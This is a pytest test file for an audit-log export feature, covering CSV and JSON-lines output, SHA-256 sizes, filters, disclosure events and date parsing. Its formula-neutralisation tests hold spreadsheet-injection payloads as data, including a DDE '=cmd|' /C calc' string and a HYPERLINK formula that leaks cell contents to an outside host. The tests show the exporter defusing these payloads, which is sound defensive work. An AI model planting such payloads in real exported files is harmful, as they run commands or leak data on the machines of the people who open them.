"""Audit exports: the file holds exactly the matching events, its hash is of its bytes, spreadsheets cannot
run what people typed, and every export leaves its disclosure event (or no file)."""

from __future__ import annotations

import csv
import functools
import hashlib
import io
import itertools
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from core.audit import chain, filters, service
from core.audit.export import (
    BOM,
    COLUMNS,
    FORMULA_STARTS,
    NUMBERS,
    Written,
    disclosure,
    export_file,
    request,
    write,
)
from core.audit.filters import AuditFilter
from core.audit.models import Actor, Where
from core.audit.when import parse_since, parse_until, period
from core.db import Database
from tests.core.support import all_events, appender, draft, raw

OWASP = set("=+-@\t\r")
T0 = datetime(2027, 3, 1, 9, tzinfo=UTC)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def exported(db: Database, f: AuditFilter, fmt: Any = "csv", *, upto: int | None = None) -> tuple[bytes, Written]:
    out = io.BytesIO()

    def body(session: Any) -> Written:
        head = service.head(session).seq if upto is None else upto
        return write(filters.rows(session, f, upto=head, batch=3), out, fmt)

    written = db.transaction(body, readonly=True)
    return out.getvalue(), written


def seqs(data: bytes) -> list[int]:
    return [int(row[0]) for row in read_csv(data)[1:]]


def stored_as_cell(name: str, value: Any) -> str:
    return "" if value is None else str(value)


# ---- contents, hash and size ----


def test_csv_and_jsonl_hold_every_column_of_every_event_as_stored(db: Database) -> None:
    db.transaction(appender(draft(1), draft(2, actor=Actor(name="Siân Zoë"), where=Where(), duration_us=1234,
                                                justification="why", recipients=["IOPC", "CPS"])))  # fmt: skip
    stored = all_events(db)

    csv_bytes, csv_written = exported(db, AuditFilter())
    jsonl_bytes, jsonl_written = exported(db, AuditFilter(), "jsonl")

    table = read_csv(csv_bytes)
    assert table[0] == list(COLUMNS)
    assert table[1:] == [[stored_as_cell(c, getattr(e, c)) for c in COLUMNS] for e in stored]
    lines = [json.loads(line) for line in jsonl_bytes.decode("utf-8").splitlines()]
    assert lines == [{c: getattr(e, c) for c in COLUMNS} for e in stored]
    assert list(lines[1]) == list(COLUMNS) and lines[1]["duration_us"] == 1234
    # The JSON lines file is enough to re-check the chain: every hash recomputes from the file alone.
    for line in lines:
        assert chain.event_hash(chain.hashed_values(SimpleNamespace(**line))) == line["hash"]
    assert not jsonl_bytes.startswith(BOM) and jsonl_bytes.endswith(b"\n")
    assert csv_written.rows == jsonl_written.rows == 2


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_sha256_and_size_are_of_the_exact_bytes_written(db: Database, fmt: str) -> None:
    db.transaction(appender(*(draft(n, detail="é" * n) for n in range(5))))

    data, written = exported(db, AuditFilter(), fmt)

    assert written == Written(rows=5, size=len(data), sha256=hashlib.sha256(data).hexdigest())


def test_an_empty_export_is_a_header_alone() -> None:
    out = io.BytesIO()
    written = write(iter(()), out, "csv")
    assert read_csv(out.getvalue()) == [list(COLUMNS)] and written.rows == 0
    assert write(iter(()), io.BytesIO(), "jsonl") == Written(0, 0, hashlib.sha256(b"").hexdigest())
    with pytest.raises(ValueError, match="unknown export format 'xlsx'"):
        write(iter(()), io.BytesIO(), "xlsx")  # type: ignore[arg-type]


# ---- formula neutralisation ----


def fake_row(text: str, number: int | None) -> SimpleNamespace:
    """An event whose every text column holds `text`, and whose numbers are `number`."""
    return SimpleNamespace(**{c: (number if c in NUMBERS else text) for c in COLUMNS})


def test_formula_looking_cells_are_neutralised_and_our_numbers_are_not(db: Database) -> None:
    db.transaction(appender(draft(1, actor=Actor(name='=HYPERLINK("http://x.example/?"&A1,"Click")'),
                                  justification="+44 20 7946 0000", detail="  @SUM(A1:A9)",
                                  rule="-1", duration_us=-5)))  # fmt: skip

    table = read_csv(exported(db, AuditFilter())[0])
    row = dict(zip(table[0], table[1], strict=True))

    assert row["actor_name"] == '\'=HYPERLINK("http://x.example/?"&A1,"Click")'
    assert row["justification"] == "'+44 20 7946 0000"
    assert row["detail"] == "'  @SUM(A1:A9)"  # spreadsheets may trim the spaces first
    assert row["rule"] == "'-1"  # text that looks like a number is still text we did not write
    assert row["seq"] == "1" and row["duration_us"] == "-5"  # our own numbers stay numbers
    jsonl = json.loads(exported(db, AuditFilter(), "jsonl")[0])
    assert jsonl["actor_name"].startswith("=HYPERLINK") and jsonl["rule"] == "-1"  # data, not a sheet


@given(text=st.text(), number=st.none() | st.integers(-(2**31), 2**31))
@example(text=" \t=cmd|' /C calc'!A0", number=-1)
@example(text="\r\n@x", number=None)
@example(text="'=already quoted", number=0)
def test_no_cell_read_back_starts_a_formula_and_a_leading_quote_is_the_only_change(
    text: str, number: int | None
) -> None:
    out = io.BytesIO()
    write([fake_row(text, number)], out, "csv")

    header, cells = read_csv(out.getvalue())

    for name, cell in zip(header, cells, strict=True):
        if name in NUMBERS:
            assert cell == ("" if number is None else str(number))
            continue
        assert cell in (text, "'" + text)
        assert cell[:1] not in OWASP and cell.lstrip()[:1] not in OWASP
        risky = text[:1] in FORMULA_STARTS or text.lstrip()[:1] in FORMULA_STARTS
        assert (cell == "'" + text) is risky  # nothing quoted that did not need it


# ---- which events ----


def populate(db: Database) -> None:
    """Ten events, an hour apart from T0, across rooms, people, agencies, actions and decisions."""
    for n in range(10):
        event = draft(n, action=("task.list", "task.done", "room.open", "taskforce.x")[n % 4],
                      decision="deny" if n % 3 == 0 else "allow",
                      actor=Actor(aad_id=f"aad-{n % 2}", agency=("met", "nhs-trust")[n % 2]),
                      where=Where(room_key=f"OP-{n % 3}"))  # fmt: skip
        at = T0 + timedelta(hours=n)
        db.transaction(functools.partial(service.append, drafts=[event], now=at))


@pytest.mark.parametrize(
    ("f", "keep"),
    [(AuditFilter(room_key="op-1"), lambda e: e.room_key == "OP-1"),
     (AuditFilter(user="AAD-1"), lambda e: e.actor_aad_id == "aad-1"),
     (AuditFilter(denied=True), lambda e: e.decision == "deny"),
     (AuditFilter(action="task.*"), lambda e: e.action.startswith("task.")),
     (AuditFilter(action="task.list"), lambda e: e.action == "task.list"),
     (AuditFilter(agency="NHS-Trust"), lambda e: e.actor_agency == "nhs-trust"),
     (AuditFilter(since=T0 + timedelta(hours=3)), lambda e: e.seq >= 4),
     (AuditFilter(until=T0 + timedelta(hours=3)), lambda e: e.seq <= 3),
     (AuditFilter(since=T0 + timedelta(hours=2, minutes=30), until=T0 + timedelta(hours=6), denied=True,
                  room_key="OP-0"), lambda e: e.seq == 4),
     (AuditFilter(since=T0 + timedelta(days=1)), lambda e: False)],
    ids=["room", "user", "denied", "action-family", "action", "agency", "since", "until", "combined", "none"],
)  # fmt: skip
def test_the_file_holds_exactly_the_events_the_filter_selects(db: Database, f: AuditFilter, keep: Any) -> None:
    populate(db)
    expected = [e.seq for e in all_events(db) if keep(e)]

    data, written = exported(db, f)

    assert seqs(data) == expected and written.rows == len(expected)


def test_events_appended_while_the_file_is_written_are_not_in_it(db: Database) -> None:
    db.transaction(appender(*(draft(n) for n in range(7))))
    out = io.BytesIO()

    def body(session: Any) -> Written:
        upto = service.head(session).seq

        def rows() -> Iterator[Any]:
            for i, row in enumerate(filters.rows(session, AuditFilter(), upto=upto, batch=2)):
                if i == 0:  # someone acts while the export is half-way through
                    db.transaction(appender(draft(100), draft(101)))
                yield row

        return write(rows(), out, "csv")

    written = db.transaction(body, readonly=True)

    assert seqs(out.getvalue()) == list(range(1, 8)) and written.rows == 7
    assert len(all_events(db)) == 9


class CountingOut:
    """A binary file that keeps nothing: only how much it was given."""

    def __init__(self) -> None:
        self.size = 0

    def write(self, data: bytes) -> int:
        self.size += len(data)
        return len(data)


def test_rows_are_written_as_they_come_without_collecting_them() -> None:
    out = CountingOut()
    seen: list[int] = []

    def rows() -> Iterator[SimpleNamespace]:
        for n in range(100_000):
            seen.append(out.size)  # what was written before this row was asked for
            yield fake_row(f"officer {n}", n)

    written = write(rows(), out, "csv")  # type: ignore[arg-type]

    assert written.rows == 100_000 and written.size == out.size
    assert all(before < after for before, after in itertools.pairwise(seen))  # each row out before the next


# ---- the disclosure event ----


def test_the_disclosure_event_names_why_who_what_and_the_file() -> None:
    f = AuditFilter(room_key="OP-1", since=T0, denied=True, action="task.*")
    written = Written(rows=12, size=3456, sha256="ab" * 32)
    actor = Actor(aad_id="aad-9", tenant_id="t", name="Sgt Smith", kind="member")

    event = disclosure(actor=actor, reason="  IOPC referral 2027/123 ", recipients=["IOPC", " CPS ", "IOPC"],
                       audit_filter=f, fmt="csv", upto_seq=99, written=written, file_name="audit.csv")  # fmt: skip

    assert (event.action, event.outcome, event.actor) == ("audit.export", "ok", actor)
    assert event.justification == "IOPC referral 2027/123"
    assert event.recipients == ["IOPC", "CPS"]
    assert event.arguments == {"room_key": "OP-1", "since": "2027-03-01T09:00:00+00:00", "denied": True,
                               "action": "task.*", "format": "csv", "upto_seq": 99, "file": "audit.csv",
                               "rows": 12, "size": 3456, "sha256": "ab" * 32}  # fmt: skip
    assert event.detail == f"12 rows, SHA-256 {'ab' * 32}, CSV, 3456 bytes"
    assert AuditFilter.from_json({k: event.arguments[k] for k in f.to_json()}) == f
    declined = disclosure(actor=actor, reason="r", recipients=["x"], audit_filter=AuditFilter(), fmt="jsonl",
                          upto_seq=5, outcome="declined", detail="declined in Teams")  # fmt: skip
    assert (declined.outcome, declined.detail, declined.arguments) == (
        "declined", "declined in Teams", {"format": "jsonl", "upto_seq": 5})


@pytest.mark.parametrize(
    ("reason", "recipients", "message"),
    [("", ["IOPC"], "give a reason"), ("   ", ["IOPC"], "give a reason"), (None, ["IOPC"], "give a reason"),
     ("why", [], "at least one recipient"), ("why", [" ", ""], "at least one recipient"),
     ("x" * 1001, ["IOPC"], "at most 1000"), ("why", ["x" * 201], "at most 200")],
)  # fmt: skip
def test_an_export_needs_a_reason_and_a_recipient(reason: str | None, recipients: list[str], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        request(reason, recipients)


def refuse_export_events(db: Database) -> None:
    """The store refuses the disclosure event (a full disk, a lost connection, a DBA's trigger)."""
    if db.dialect == "postgresql":
        raw(db, "CREATE FUNCTION refuse_export() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
                "IF NEW.action = 'audit.export' THEN RAISE EXCEPTION 'store refuses'; END IF; RETURN NEW; END $$",
            "CREATE TRIGGER refuse_export BEFORE INSERT ON audit_event FOR EACH ROW EXECUTE FUNCTION refuse_export()")  # fmt: skip
    else:
        raw(db, "CREATE TRIGGER refuse_export BEFORE INSERT ON audit_event WHEN NEW.action = 'audit.export' "
                "BEGIN SELECT RAISE(ABORT, 'store refuses'); END")  # fmt: skip


@pytest.fixture
def outdir(tmp_path: Path) -> Path:
    """A directory of its own for the export (the SQLite database lives in tmp_path)."""
    path = tmp_path / "exports"
    path.mkdir()
    return path


def export_to(db: Database, out: Path, **overrides: Any) -> Any:
    values: dict[str, Any] = {"audit_filter": AuditFilter(room_key="OP-1"), "fmt": "csv", "reason": "IOPC 123",
                              "recipients": ["IOPC"], "actor": Actor(kind="system", name="cli:ops"), "out": out}
    return export_file(db, **(values | overrides))


def test_export_file_writes_the_file_then_records_it(db: Database, outdir: Path) -> None:
    op1 = Where(room_key="OP-1")
    db.transaction(appender(draft(1, where=op1), draft(2, where=Where(room_key="OP-2")), draft(3, where=op1)))
    out = outdir / "audit.csv"

    done = export_to(db, out)

    data = out.read_bytes()
    assert seqs(data) == [1, 3] and done.upto_seq == 3 and done.event_seq == 4
    assert done.written == Written(2, len(data), hashlib.sha256(data).hexdigest())
    event = all_events(db)[-1]
    assert (event.seq, event.action, event.outcome, event.actor_name) == (4, "audit.export", "ok", "cli:ops")
    assert json.loads(event.recipients or "") == ["IOPC"] and event.justification == "IOPC 123"
    assert json.loads(event.arguments)["sha256"] == hashlib.sha256(data).hexdigest()
    assert (out.stat().st_mode & 0o777) == 0o600 and list(outdir.iterdir()) == [out]


def test_an_existing_file_is_refused_unless_forced(db: Database, outdir: Path) -> None:
    out = outdir / "audit.jsonl"
    out.write_text("someone else's file")

    with pytest.raises(FileExistsError, match="exists"):
        export_to(db, out, fmt="jsonl")
    assert out.read_text() == "someone else's file" and all_events(db) == []

    export_to(db, out, fmt="jsonl", force=True)
    assert out.read_bytes() == b"" and [e.action for e in all_events(db)] == ["audit.export"]


def test_no_file_is_left_when_the_disclosure_cannot_be_recorded(db: Database, outdir: Path) -> None:
    db.transaction(appender(draft(1, where=Where(room_key="OP-1"))))
    refuse_export_events(db)

    with pytest.raises(Exception, match="store refuses"):
        export_to(db, outdir / "audit.csv")

    assert list(outdir.iterdir()) == []  # neither the file, nor its temporary, nor the reserved name
    assert [e.action for e in all_events(db)] == ["task.list"]


def test_nothing_is_written_without_a_reason(db: Database, outdir: Path) -> None:
    with pytest.raises(ValueError, match="give a reason"):
        export_to(db, outdir / "audit.csv", reason=" ")
    assert list(outdir.iterdir()) == [] and all_events(db) == []


# ---- since and until as people type them ----

NOW = datetime(2027, 3, 24, 12, tzinfo=UTC)


@pytest.mark.parametrize(
    ("text", "since", "until"),
    [("30m", NOW - timedelta(minutes=30), None), ("24h", NOW - timedelta(days=1), None),
     ("7D", NOW - timedelta(days=7), NOW - timedelta(days=7)), ("2w", NOW - timedelta(weeks=2), None),
     # London: GMT on the 27th, BST from 01:00 UTC on the 28th; a date is the whole local day.
     ("2027-03-27", datetime(2027, 3, 27, tzinfo=UTC), datetime(2027, 3, 28, tzinfo=UTC)),
     ("2027-03-28", datetime(2027, 3, 28, tzinfo=UTC), datetime(2027, 3, 28, 23, tzinfo=UTC)),
     ("2027-07-01", datetime(2027, 6, 30, 23, tzinfo=UTC), datetime(2027, 7, 1, 23, tzinfo=UTC)),
     ("2027-07-01T09:30", datetime(2027, 7, 1, 8, 30, tzinfo=UTC), datetime(2027, 7, 1, 8, 30, tzinfo=UTC)),
     ("2027-07-01T09:30:00Z", datetime(2027, 7, 1, 9, 30, tzinfo=UTC), None)],
)  # fmt: skip
def test_since_and_until_read_spans_dates_and_times(text: str, since: datetime, until: datetime | None) -> None:
    assert parse_since(text, now=NOW, timezone="Europe/London") == since
    if until is not None:
        assert parse_until(text, now=NOW, timezone="Europe/London") == until


@pytest.mark.parametrize(
    ("text", "message"),
    [("yesterday", "'yesterday' is not a time I understand: use a span back from now"),
     ("7x", "is not a time I understand"), ("12345d", "is not a time I understand"),
     ("2027-02-30", "2027-02-30 is not a date"), ("9999-12-31", "too far away")],
)  # fmt: skip
def test_what_is_not_a_time_is_refused_with_a_message_to_show(text: str, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        parse_until(text, now=NOW, timezone="Europe/London")


def test_a_period_must_leave_room_between_its_bounds() -> None:
    assert period(None, None, now=NOW, timezone="Europe/London") == (None, None)
    with pytest.raises(ValueError, match="since 1d is not before until 2d"):
        period("1d", "2d", now=NOW, timezone="Europe/London")
